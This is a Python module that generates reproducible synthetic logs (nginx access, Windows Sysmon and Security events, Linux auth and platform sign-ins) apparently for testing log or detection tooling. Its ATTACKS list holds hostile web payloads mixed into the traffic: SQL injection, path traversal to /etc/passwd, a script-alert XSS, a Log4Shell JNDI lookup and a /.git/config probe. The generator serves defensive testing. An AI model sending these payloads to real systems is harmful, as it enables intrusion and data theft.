"""Logs to measure with, the same for the same seed: each function gives the lines of one lane.

Nobody's data: addresses of documentation, invented people. The Windows attacks are varied from recordings.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SEED = 7
#: Shares of web requests: to known pages, with a query, attacks.
KNOWN, ASKING, HOSTILE = 0.6, 0.25, 0.01
#: Share of a crowd that comes by IPv6.
SIXES = 0.25
#: Shares of sign-ins: that fail, that come from one address which tries accounts.
FAILING, SPRAYING = 0.05, 0.002
#: A value in two is changed; a line in two that is no failure is a cron job's.
HALF = 0.5
BEGAN = datetime(2026, 11, 22, 7, 0, tzinfo=UTC)
PAGES = ("/", "/login", "/news", "/services", "/search", "/api/v1/status", "/static/app.js", "/faq", "/images/logo.png")
WORDS = ("select+committee", "union+station", "ภาษี", "passport", "O%27Neil", "a%20b", "health+card", "script")
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 15; SM-S928B) AppleWebKit/537.36 Chrome/131.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
ATTACKS = (
    "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/item?id=1%2527+or+1=1",
    "/download?file=..%2f..%2f..%2fetc%2fpasswd",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/.git/config",
)
IMAGES = ("svchost.exe", "chrome.exe", "explorer.exe", "SearchIndexer.exe", "msedge.exe", "OUTLOOK.EXE", "backup.exe")
MODULES = ("ntdll.dll", "kernel32.dll", "user32.dll", "bcrypt.dll", "rpcrt4.dll", "combase.dll", "clbcatq.dll")
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def web(count: int) -> Iterator[str]:
    """Give lines of an nginx access log: people and crawlers, one request in a hundred an attack."""
    dice = random.Random(SEED)  # noqa: S311  no secret
    for number in range(count):
        at = BEGAN + timedelta(seconds=number // 200)
        address = f"203.0.{dice.randrange(113, 120)}.{dice.randrange(256)}"
        path = dice.choice(PAGES) if dice.random() < KNOWN else f"/item/{dice.randrange(50_000)}"
        if dice.random() < ASKING:
            path += f"?q={dice.choice(WORDS)}&page={dice.randrange(200)}"
        if dice.random() < HOSTILE:
            path = dice.choice(ATTACKS)
        status = dice.choices((200, 304, 404, 302, 500), (85, 6, 5, 3, 1))[0]
        yield (
            f'{address} - - [{at:%d/%b/%Y:%H:%M:%S %z}] "GET {path} HTTP/1.1" {status} {dice.randrange(90_000)} '
            f'"-" "{dice.choice(AGENTS)}"'
        )


def crowd(count: int) -> Iterator[str]:
    """Give lines of the same log on a registration day: nearly every request from another address, one in four IPv6."""
    dice = random.Random(SEED)  # noqa: S311  no secret
    for line in web(count):
        number = dice.getrandbits(24)
        address = f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}"
        if dice.random() < SIXES:
            address = f"2001:db8:{number >> 8:x}:{number & 255:x}::1"
        yield f"{address} {line.partition(' ')[2]}"


def windows_ordinary(count: int) -> Iterator[str]:
    """Give Sysmon and Security events of offices at work, one JSON object a line, about 1 KB each."""
    dice = random.Random(SEED)  # noqa: S311  no secret
    kinds = (_image_load, _registry, _file, _access, _network, _process, _logon)
    for number in range(count):
        kind = dice.choices(kinds, (30, 22, 14, 10, 9, 5, 10))[0]
        yield json.dumps(_written(dice, number, kind(dice)))


def windows_attacks(count: int, recordings: list[Path]) -> Iterator[str]:
    """Give recorded events over and over, each with other process ids, GUIDs, times and, often, arguments."""
    dice = random.Random(SEED)  # noqa: S311  no secret
    texts = [line for path in recordings for line in path.read_text(encoding="utf-8", errors="replace").splitlines()]
    events = [json.loads(text) for text in texts if text.startswith("{")]
    for number in range(count):
        event = dict(dice.choice(events))
        event |= {name: _changed(dice, name, value) for name, value in event.items() if isinstance(value, str)}
        event["@timestamp"] = f"{BEGAN + timedelta(milliseconds=10 * number):%Y-%m-%dT%H:%M:%S.%fZ}"
        yield json.dumps(event)


def auth(count: int) -> Iterator[str]:
    """Give lines of a Linux authentication log: cron jobs, sessions, sign-ins that fail from many addresses."""
    yield from _auth(count, addresses=4_000, failures=0.15)


def authn(count: int) -> Iterator[str]:
    """Give sign-ins to a platform as JSON: people at home, one in twenty fails, and one address that tries accounts."""
    dice = random.Random(SEED)  # noqa: S311  no secret
    for number in range(count):
        at = BEGAN + timedelta(seconds=number // 200)
        person = dice.randrange(300_000)
        trying = dice.random() < SPRAYING
        result = "failure" if trying or dice.random() < FAILING else "success"
        yield json.dumps(
            {
                "@timestamp": f"{at:%Y-%m-%dT%H:%M:%S}.{number % 200 * 5:03}Z",
                "event": "login",
                "result": result,
                "reason": "bad_password" if result == "failure" else None,
                "user_id_hash": f"{person * 2_654_435_761 % (1 << 64):016x}",
                "src_ip": "198.51.100.9" if trying else f"203.0.{113 + person // 256 % 7}.{person % 256}",
                "device_id": f"d{person}",
                "method": dice.choice(("password+otp", "thaid", "face")),
            }
        )


def correlation(count: int) -> Iterator[str]:
    """Give failed sign-ins of 200,000 addresses within five minutes."""
    yield from _auth(count, addresses=200_000, failures=1.0, seconds=300)


def _auth(count: int, addresses: int, failures: float, seconds: int | None = None) -> Iterator[str]:
    dice = random.Random(SEED)  # noqa: S311  no secret
    for number in range(count):
        at = BEGAN + timedelta(seconds=number * (seconds or count // 50) // count)
        head = f"{at:%b %d %H:%M:%S} web{dice.randrange(8):02}"
        one = dice.randrange(addresses)
        address = f"198.{18 + one // 65_536 % 2}.{one // 256 % 256}.{one % 256}"
        if dice.random() < failures:
            user = dice.choice(("root", "admin", "oracle", f"user{dice.randrange(900)}"))
            yield f"{head} sshd[{dice.randrange(65_536)}]: Failed password for {user} from {address} port 50022 ssh2"
        elif dice.random() < HALF:
            command = dice.choice(("/usr/lib/sa/sa1 1 1", "run-parts /etc/cron.hourly", "/opt/backup.sh"))
            yield f"{head} CRON[{dice.randrange(65_536)}]: (root) CMD ({command})"
        else:
            user = f"staff{dice.randrange(60)}"
            yield f"{head} sshd[{dice.randrange(65_536)}]: Accepted publickey for {user} from {address} port 50022 ssh2"


def _written(dice: random.Random, number: int, event: dict[str, Any]) -> dict[str, Any]:
    at = BEGAN + timedelta(milliseconds=10 * number)
    host = f"PC{dice.randrange(400):03}.office.example"
    heading = {"@timestamp": f"{at:%Y-%m-%dT%H:%M:%S.%fZ}", "Hostname": host, "RecordNumber": number}
    message = "\r\n".join(f"{name}: {value}" for name, value in event.items() if name not in ("Channel", "EventID"))
    return heading | event | {"Message": message}


def _sysmon(dice: random.Random, number: int, **fields: object) -> dict[str, Any]:
    image = f"C:\\Program Files\\App{dice.randrange(40)}\\{dice.choice(IMAGES)}"
    own = {"ProcessGuid": _guid(dice), "ProcessId": str(dice.randrange(65_536)), "Image": image}
    return {"Channel": SYSMON, "EventID": number, "User": f"OFFICE\\user{dice.randrange(900)}"} | own | fields


def _image_load(dice: random.Random) -> dict[str, Any]:
    module = f"C:\\Windows\\System32\\{dice.choice(MODULES)}"
    return _sysmon(dice, 7, ImageLoaded=module, Signed="true", SignatureStatus="Valid", Hashes=_hash(dice, 2_000))


def _registry(dice: random.Random) -> dict[str, Any]:
    key = f"HKU\\S-1-5-21-{dice.randrange(900)}\\Software\\App{dice.randrange(40)}\\Setting{dice.randrange(3_000)}"
    return _sysmon(dice, 13, EventType="SetValue", TargetObject=key, Details=f"DWORD (0x{dice.randrange(1 << 16):08x})")


def _file(dice: random.Random) -> dict[str, Any]:
    name = f"C:\\Users\\user{dice.randrange(900)}\\AppData\\Local\\Temp\\{dice.randrange(1 << 32):08x}.tmp"
    return _sysmon(dice, 11, TargetFilename=name)


def _access(dice: random.Random) -> dict[str, Any]:
    source = f"C:\\Windows\\System32\\{dice.choice(IMAGES)}"
    return _sysmon(dice, 10, SourceImage=source, TargetImage="C:\\Windows\\explorer.exe", GrantedAccess="0x1000")


def _network(dice: random.Random) -> dict[str, Any]:
    target = f"198.51.100.{dice.randrange(256)}"
    return _sysmon(dice, 3, Protocol="tcp", Initiated="true", DestinationIp=target, DestinationPort="443")


def _process(dice: random.Random) -> dict[str, Any]:
    command = (
        f'"C:\\Program Files\\App{dice.randrange(40)}\\{dice.choice(IMAGES)}" --type=renderer --id={dice.random()}'
    )
    parent = "C:\\Windows\\explorer.exe"
    return _sysmon(dice, 1, CommandLine=command, ParentImage=parent, IntegrityLevel="Medium", Hashes=_hash(dice, 500))


def _logon(dice: random.Random) -> dict[str, Any]:
    account = f"user{dice.randrange(900)}"
    own = {
        "TargetUserName": account,
        "LogonType": dice.choice(("2", "3", "5")),
        "IpAddress": f"10.1.2.{dice.randrange(256)}",
    }
    return {"Channel": "Security", "EventID": dice.choice((4624, 4634, 4672)), "SubjectLogonId": "0x3e7"} | own


def _changed(dice: random.Random, name: str, value: str) -> str:
    if name.endswith("Guid") and value.startswith("{"):
        return _guid(dice)
    if name.endswith(("ProcessId", "ThreadId", "LogonId")):
        return hex(dice.randrange(1 << 20)) if value.startswith("0x") else str(dice.randrange(1 << 16))
    if name in ("CommandLine", "TargetFilename", "TargetObject", "Details") and dice.random() < HALF:
        return f"{value} {dice.randrange(1 << 32):08x}"
    return value


def _guid(dice: random.Random) -> str:
    return f"{{{dice.randrange(1 << 32):08x}-0000-0000-0000-{dice.randrange(1 << 48):012x}}}"


def _hash(dice: random.Random, kinds: int) -> str:
    return f"SHA256={random.Random(dice.randrange(kinds)).randrange(1 << 256):064x}"  # noqa: S311  no secret
